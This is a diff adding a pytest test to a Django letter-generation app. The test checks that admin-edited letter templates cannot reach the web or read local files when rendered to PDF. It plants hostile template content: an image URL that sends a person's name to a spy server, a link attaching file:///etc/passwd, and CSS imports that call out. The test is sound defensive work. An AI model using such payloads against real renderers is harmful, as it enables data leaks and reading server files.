@@ -18,6 +18,7 @@ from people.models import BankAccount
 from tests.factories import UserFactory
 from tests.files.conftest import client_for, page_text
 from tests.letters.conftest import letter_text
+from tests.printouts.spy_server import spy_server
 
 pytestmark = pytest.mark.django_db
 
@@ -193,3 +194,18 @@ def test_the_admin_saves_a_template_that_uses_its_variables_loops_and_filters(ad
     assert admin_client.post(url, {"html": html, "css": ""}).status_code == 302
     template.refresh_from_db()
     assert template.html == html
+
+
+def test_a_letter_template_reaches_no_web_address_and_no_file(file, request_, worker):
+    """Through the letter's own path: the template and its CSS, both edited in the admin."""
+    with spy_server() as (base, requested):
+        LetterTemplate.objects.filter(kind=Kind.ACKNOWLEDGEMENT).update(
+            html=f'<p>Bonjour</p><img src="{base}/x.png?nom={{{{ person.full_name|urlencode }}}}">'
+            '<link rel="attachment" href="file:///etc/passwd">',
+            css=f"@import url({base}/style.css); body {{ background: url('{base}/fond.png'); }}",
+        )
+        letter = services.generate(actor=worker, kind=Kind.ACKNOWLEDGEMENT, file=file, request=request_)
+    assert requested == []
+    with letter.pdf.open("rb") as pdf:
+        data = pdf.read()
+    assert b"root:" not in data and "Bonjour" in letter_text(letter)
